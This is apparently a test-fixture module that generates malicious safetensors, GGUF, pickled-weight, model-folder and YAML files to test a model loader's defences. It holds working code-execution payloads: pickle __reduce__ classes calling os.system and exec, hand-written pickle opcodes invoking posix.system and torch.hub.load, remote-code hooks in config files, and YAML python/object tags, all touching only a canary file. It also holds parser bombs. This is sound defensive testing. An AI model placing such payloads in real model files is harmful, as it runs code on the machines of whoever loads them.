"""Malicious model files and folders, made here: each shows one way to hurt whoever opens it."""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

# -- safetensors -----------------------------------------------------------------------------------------------------

F32 = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}


def safetensors(header: Any, data: bytes = b"\0" * 8, *, length: int | None = None) -> bytes:
    """The bytes of a file with this header, which may be bytes or JSON."""
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def _entry(**changes: Any) -> dict[str, Any]:
    return {"w": {**F32, **changes}}


SAFETENSORS: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "seven bytes": lambda: b"\0" * 7,
    "length of 2^64-1": lambda: safetensors({"w": F32}, length=2**64 - 1),
    "length of 2^63": lambda: safetensors({"w": F32}, length=2**63),
    "length past the end": lambda: safetensors({"w": F32}, length=10_000),
    "length of 100 MB": lambda: safetensors({"w": F32}, length=100 * 2**20),
    "no JSON": lambda: safetensors(b"not json at all"),
    "not UTF-8": lambda: safetensors(b'{"\xff\xfe": 1}'),
    "a list": lambda: safetensors([F32]),
    "a number": lambda: safetensors(b"1"),
    "nested 100,000 deep": lambda: safetensors(b"[" * 100_000),
    "nested 9,000 deep inside an entry": lambda: safetensors(b'{"w":' + b"[" * 9_000 + b"]" * 9_000 + b"}"),
    "a name twice": lambda: safetensors(b'{"w":%s,"w":%s}' % ((json.dumps(F32).encode(),) * 2)),
    "a million names twice": lambda: safetensors(b"{" + b",".join([b'"a":1', b'"b":2'] * 500_000) + b"}"),
    "dtype twice": lambda: safetensors(b'{"w":{"dtype":"F32","dtype":"F16","shape":[2],"data_offsets":[0,8]}}'),
    "250,000 tensors": lambda: safetensors(
        b"{" + b",".join(b'"%d":{"dtype":"F32","shape":[],"data_offsets":[0,4]}' % n for n in range(250_000)) + b"}"
    ),
    "a shape of a million numbers": lambda: safetensors(_entry(shape=[2**62] * 300_000)),
    "a shape of 2,000 large numbers": lambda: safetensors(_entry(shape=[2**62] * 2_000)),
    "a number of 100,000 digits": lambda: safetensors(b'{"w":{"dtype":"F32","shape":[%s]}}' % (b"9" * 100_000)),
    "shape overflows": lambda: safetensors(_entry(shape=[2**32, 2**32, 2**32])),
    "negative shape": lambda: safetensors(_entry(shape=[-2])),
    "fractional shape": lambda: safetensors(_entry(shape=[2.0])),
    "true as a shape": lambda: safetensors(_entry(shape=[True, True])),
    "NaN as a shape": lambda: safetensors(b'{"w":{"dtype":"F32","shape":[NaN],"data_offsets":[0,8]}}'),
    "text as offsets": lambda: safetensors(_entry(data_offsets="08")),
    "three offsets": lambda: safetensors(_entry(data_offsets=[0, 8, 8])),
    "offsets backwards": lambda: safetensors(_entry(data_offsets=[8, 0])),
    "offsets past the end": lambda: safetensors(_entry(shape=[200], data_offsets=[0, 800])),
    "offsets of 2^64": lambda: safetensors(_entry(data_offsets=[2**64 - 8, 2**64])),
    "overlap": lambda: safetensors({"a": F32, "b": F32}),
    "gap": lambda: safetensors({"a": F32, "b": {**F32, "data_offsets": [16, 24]}}, b"\0" * 24),
    "bytes nobody names": lambda: safetensors({"w": F32}, b"\0" * 8 + b"#!/bin/sh\ntouch canary\n"),
    "unknown type": lambda: safetensors(_entry(dtype="../../etc/passwd")),
    "an escape sequence as a name": lambda: safetensors({"\x1b]0;owned\x07\x1b[2J": {**F32, "shape": [3]}}),
    "a name of a megabyte": lambda: safetensors({"n" * 2**20: {**F32, "shape": [3]}}),
    "an extra field": lambda: safetensors(_entry(code="__import__('os').system('touch canary')")),
}

# -- GGUF ------------------------------------------------------------------------------------------------------------


def text(value: str | bytes) -> bytes:
    """A GGUF string."""
    raw = value if isinstance(value, bytes) else value.encode()
    return struct.pack("<Q", len(raw)) + raw


def key(name: str | bytes, kind: int, value: bytes) -> bytes:
    """One metadata entry."""
    return text(name) + struct.pack("<I", kind) + value


def tensor(name: str | bytes = "w", shape: tuple[int, ...] = (8,), kind: int = 0, offset: int = 0) -> bytes:
    """One tensor entry."""
    head = text(name) + struct.pack("<I", len(shape)) + b"".join(struct.pack("<Q", side) for side in shape)
    return head + struct.pack("<IQ", kind, offset)


def gguf(
    keys: tuple[bytes, ...] = (),
    tensors: tuple[bytes, ...] = (),
    data: bytes = b"",
    *,
    counts: tuple[int, int] | None = None,
    magic: bytes = b"GGUF",
    version: int = 3,
) -> bytes:
    """The bytes of a GGUF file; `counts` (tensors, keys) may lie."""
    claimed = (len(tensors), len(keys)) if counts is None else counts
    head = magic + struct.pack("<IQQ", version, *claimed) + b"".join(keys) + b"".join(tensors)
    return head + b"\0" * (-len(head) % 32 if data else 0) + data


def array(kind: int, count: int, body: bytes = b"") -> bytes:
    """A metadata array that claims `count` entries."""
    return struct.pack("<IQ", kind, count) + body


NAME = key("general.name", 8, text("tiny"))
GOOD = {"keys": (NAME,), "tensors": (tensor(),), "data": b"\0" * 32}

GGUF: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "a page of zeros": lambda: b"\0" * 4096,
    "another magic": lambda: gguf(**GOOD, magic=b"GGML"),
    "version 1": lambda: gguf(**GOOD, version=1),
    "version 99": lambda: gguf(**GOOD, version=99),
    "big-endian": lambda: b"GGUF" + struct.pack(">IQQ", 3, 0, 0) + b"\0" * 64,
    "2^63 tensors": lambda: gguf(**GOOD, counts=(2**63, 1)),
    "2^64-1 tensors": lambda: gguf(**GOOD, counts=(2**64 - 1, 1)),
    "100,000 tensors in 100 bytes": lambda: gguf(**GOOD, counts=(100_000, 1)),
    "2^63 keys": lambda: gguf(**GOOD, counts=(1, 2**63)),
    "9,000 keys in 100 bytes": lambda: gguf(**GOOD, counts=(1, 9_000)),
    "a key of 2^63 bytes": lambda: gguf((struct.pack("<Q", 2**63) + b"a" * 64,)),
    "a key of 2^64-8 bytes": lambda: gguf((struct.pack("<Q", 2**64 - 8) + b"a" * 64,)),
    "a value of 2^40 bytes": lambda: gguf((key("k", 8, struct.pack("<Q", 2**40)),), data=b"\0" * 32),
    "an array of 2^62 numbers": lambda: gguf((key("k", 9, array(4, 2**62)),), data=b"\0" * 32),
    "an array of 2^61 texts": lambda: gguf((key("k", 9, array(8, 2**61)),), data=b"\0" * 32),
    "arrays of arrays": lambda: gguf((key("k", 9, array(9, 1, array(9, 1, array(9, 1)))),), data=b"\0" * 32),
    "a text in an array past the end": lambda: gguf((key("k", 9, array(8, 2, text("a") + text("b")[:8])),)),
    "a text of 2^64-1 in an array": lambda: gguf((key("k", 9, array(8, 1, struct.pack("<Q", 2**64 - 1))),)),
    "a value of type 77": lambda: gguf((key("k", 77, b"\0" * 64),)),
    "an array of type 77": lambda: gguf((key("k", 9, array(77, 1, b"\0" * 64)),)),
    "a key twice": lambda: gguf((NAME, NAME), (tensor(),), b"\0" * 32),
    "10,000 keys twice": lambda: gguf(tuple(key(f"k{n % 4_999}", 7, b"\1") for n in range(9_998))),
    "a key that is not UTF-8": lambda: gguf((key(b"\xff\xfe", 7, b"\1"),), data=b"\0" * 32),
    "alignment of 0": lambda: gguf((key("general.alignment", 4, struct.pack("<I", 0)),), (tensor(),), b"\0" * 32),
    "alignment of 3": lambda: gguf((key("general.alignment", 4, struct.pack("<I", 3)),), (tensor(),), b"\0" * 32),
    "alignment of 2^31": lambda: gguf((key("general.alignment", 4, struct.pack("<I", 2**31)),), (tensor(),)),
    "alignment as text": lambda: gguf((key("general.alignment", 8, text("32")),), (tensor(),), b"\0" * 32),
    "a tensor twice": lambda: gguf((), (tensor(), tensor(offset=32)), b"\0" * 64),
    "no dimensions": lambda: gguf((), (tensor(shape=()),), b"\0" * 32),
    "2^32-1 dimensions": lambda: gguf((), (text("w") + struct.pack("<I", 2**32 - 1) + b"\0" * 64,)),
    "a side of 0": lambda: gguf((), (tensor(shape=(0, 8)),), b"\0" * 32),
    "a shape that overflows": lambda: gguf((), (tensor(shape=(2**32, 2**32, 2**32)),), b"\0" * 32),
    "a shape of 2^64": lambda: gguf((), (tensor(shape=(2**62, 4)),), b"\0" * 32),
    "a type nobody knows": lambda: gguf((), (tensor(kind=9_999),), b"\0" * 32),
    "half a block": lambda: gguf((), (tensor(kind=2, shape=(8,)),), b"\0" * 32),
    "an offset off the grid": lambda: gguf((), (tensor(offset=1),), b"\0" * 64),
    "an offset of 2^64-32": lambda: gguf((), (tensor(offset=2**64 - 32),), b"\0" * 32),
    "an offset past the end": lambda: gguf((), (tensor(shape=(8_000,)),), b"\0" * 32),
    "overlapping tensors": lambda: gguf((), (tensor("a"), tensor("b")), b"\0" * 64),
    "a tensor's name of 1 MB": lambda: gguf((), (tensor("n" * 2**20),), b"\0" * 32),
    "bytes nobody names": lambda: gguf(**{**GOOD, "data": b"\0" * 64 + b"#!/bin/sh\ntouch canary\n"}),
    "cut inside a key": lambda: gguf(**GOOD)[:40],
    "cut inside a tensor": lambda: gguf(**GOOD)[:-50],
}

# -- model folders ---------------------------------------------------------------------------------------------------


def code_folder(folder: Path, canary: Path) -> None:
    """Turn a good model folder into one that offers code in every way that libraries know of."""
    line = f"import pathlib; pathlib.Path({str(canary)!r}).touch()\n"
    shapes = {
        "configuration_evil.py": "from transformers import LlamaConfig\nclass EvilConfig(LlamaConfig): pass\n",
        "modeling_evil.py": "from transformers import LlamaForCausalLM\nclass EvilModel(LlamaForCausalLM): pass\n",
        "tokenization_evil.py": "from transformers import PreTrainedTokenizerFast\n"
        "class EvilTokenizer(PreTrainedTokenizerFast): pass\n",
    }
    for name in (*shapes, "__init__.py", "setup.py", "sitecustomize.py", "conftest.py", "generate.py"):
        (folder / name).write_text(line + shapes.get(name, ""), encoding="utf-8")
    (folder / "custom_generate").mkdir()
    (folder / "custom_generate" / "generate.py").write_text(line, encoding="utf-8")
    auto = {"AutoConfig": "configuration_evil.EvilConfig", "AutoModelForCausalLM": "modeling_evil.EvilModel"}
    tokenizer = {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", "tokenization_evil.EvilTokenizer"]}
    _add(
        folder / "config.json",
        {
            "auto_map": auto | tokenizer,
            "trust_remote_code": True,
            "attn_implementation": "evil/kernel",
            "extra_settings": {"auto_map": auto, "nested": [{"deeper": {"auto_map": auto, "trust_remote_code": True}}]},
        },
    )
    _add(folder / "tokenizer_config.json", {"auto_map": tokenizer, "tokenizer_file": "/etc/passwd"})
    _add(folder / "generation_config.json", {"custom_generate": "evil/repository", "trust_remote_code": True})
    (folder / "adapter_config.json").write_text(
        json.dumps({"peft_type": "LORA", "base_model_name_or_path": "evil/other", "auto_mapping": auto}), "utf-8"
    )
    for name in ("pytorch_model.bin", "adapter_model.bin", "training_args.bin"):
        (folder / name).write_bytes(pickle.dumps(Payload(canary)))


def _add(file: Path, settings: dict[str, Any]) -> None:
    data = json.loads(file.read_text(encoding="utf-8")) if file.exists() else {}
    file.write_text(json.dumps(data | settings), encoding="utf-8")


class Payload:
    """Touches the canary when it is unpickled."""

    def __init__(self, canary: Path, call: str = "exec") -> None:
        self._canary, self._call = canary, call

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        if self._call == "system":
            return os.system, (f"touch {self._canary}",)
        if self._call == "touch":
            return Path.touch, (self._canary,)
        return exec, (f"import pathlib; pathlib.Path({str(self._canary)!r}).touch()",)


# -- pickled weights -------------------------------------------------------------------------------------------------


def zipped(program: bytes, *, more: tuple[tuple[str, bytes], ...] = (), compress: int = zipfile.ZIP_STORED) -> bytes:
    """A torch file around a pickle."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", compress) as archive:
        for name, content in (("model/data.pkl", program), ("model/version", b"3\n"), *more):
            archive.writestr(name, content)
    return held.getvalue()


def pickles(canary: Path) -> Iterator[tuple[str, bytes]]:
    """Weight files that are programs."""
    for call in ("exec", "system", "touch"):
        for protocol in (0, 2, 4):
            yield f"{call}, protocol {protocol}", zipped(pickle.dumps({"w": Payload(canary, call)}, protocol))
    yield "a bare pickle", pickle.dumps(Payload(canary))
    yield "two pickles", zipped(pickle.dumps({}), more=(("other/data.pkl", pickle.dumps(Payload(canary))),))
    yield "a pickle that is cut", zipped(pickle.dumps({"w": Payload(canary)})[:-4])
    yield (
        "a name made while it runs",
        zipped(
            b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x8c\x05torch\x8c\x04Size0h\x00h\x01\x93\x8c\x04true\x85R."
        ),
    )
    yield "an extension code", zipped(b"\x80\x02\x82\x01.")
    yield "a bomb", zipped(b"\x80\x04]\x94." + b"\0" * 2**24, compress=zipfile.ZIP_DEFLATED)
    yield "torch.hub", zipped(b"\x80\x02ctorch.hub\nload\n(X\x04\0\0\0evilX\x01\0\0\0mtR.")
    yield "numpy loading", zipped(b"\x80\x02cnumpy\nload\n(X\x04\0\0\0evilI01\ntR.")


# -- recipes ---------------------------------------------------------------------------------------------------------


def recipes() -> dict[str, str]:
    """YAML that attacks whoever reads it, or asks for more than anybody may give."""
    return {
        "alias bomb": "a: &a [x,x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}]\n" for n in range(20)),
        "merge key": "base: &b {model: x}\n<<: *b\n",
        "nested 30,000 lists": "model: " + "[" * 30_000,
        "nested 30,000 maps": "model: " + "{a: " * 15_000,
        "nested by indent": "".join(" " * n + "a:\n" for n in range(300)),
        "100 KB": "model: " + "a" * 100_000,
        "a Python object": "model: !!python/object/apply:os.system ['touch canary']\n",
        "a Python name": "model: !!python/name:os.system\n",
        "a Python module": "model: !!python/module:os\n",
        "memory above the contract": "model: embedded\nlimits: {memory_share: 0.99}\n",
        "infinite memory": "model: embedded\nlimits: {memory_share: .inf}\n",
        "memory that is no number": "model: embedded\nlimits: {memory_share: .nan}\n",
        "a field nobody knows": "model: embedded\ntrust_remote_code: true\n",
        "a name that is a path": "model: embedded\nname: ../../etc\n",
        "a number of 60,000 digits": "model: embedded\nseed: " + "9" * 60_000,
        "not UTF-8": "model: \udcff",
        "a key twice": "model: embedded\nlimits: {memory: 1G}\nlimits: {memory: 900G}\n",
    }
